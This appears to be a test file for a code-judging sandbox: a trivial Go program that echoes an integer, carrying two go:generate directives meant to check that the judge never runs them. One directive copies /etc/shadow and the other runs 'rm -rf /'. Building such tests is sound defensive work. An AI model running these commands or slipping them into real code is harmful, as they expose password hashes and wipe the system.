// Orders for tools that must not be run, and a right program.
// attack: 101
// verdict: AC
//go:generate sh -c "cat /etc/shadow > main"
package main

import "fmt"

//go:generate rm -rf /

func main() {
	var n int
	fmt.Scan(&n)
	fmt.Println(n)
}
